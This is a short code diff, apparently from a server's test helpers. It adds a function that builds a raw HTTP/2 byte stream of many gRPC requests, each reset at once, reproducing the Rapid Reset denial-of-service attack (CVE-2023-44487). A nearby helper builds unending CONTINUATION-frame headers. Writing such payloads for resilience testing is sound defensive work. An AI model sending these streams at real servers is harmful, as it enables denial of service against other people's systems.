@@ -56,6 +56,21 @@ def unread(path: bytes, calls: int, *, message: bytes = b"", key: bytes = b"") -
     return _PREFACE + b"".join(frames)
 
 
+def taken_back(path: bytes, calls: int) -> bytes:
+    """Calls without a key on one connection, each of which is reset at once (CVE-2023-44487)."""
+    headers = [
+        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"),
+        (b"content-type", b"application/grpc"), (b"te", b"trailers"),
+    ]  # fmt: skip
+    block = b"".join(_literal(name, value) for name, value in headers)
+    frames = [_frame(_SETTINGS, 0, 0, b""), _frame(_SETTINGS, _ACK, 0, b"")]
+    for stream in range(1, 2 * calls, 2):
+        frames.append(_frame(_HEADERS, _END_HEADERS, stream, block))
+        frames.append(_frame(_DATA, _END_STREAM, stream, bytes(5)))
+        frames.append(_frame(_RESET, 0, stream, struct.pack(">I", 8)))
+    return _PREFACE + b"".join(frames)
+
+
 def unfinished(size_bytes: int) -> bytes:
     """A call without a key whose headers do not end: CONTINUATION frames of 11 kB, up to so many bytes."""
     headers = [
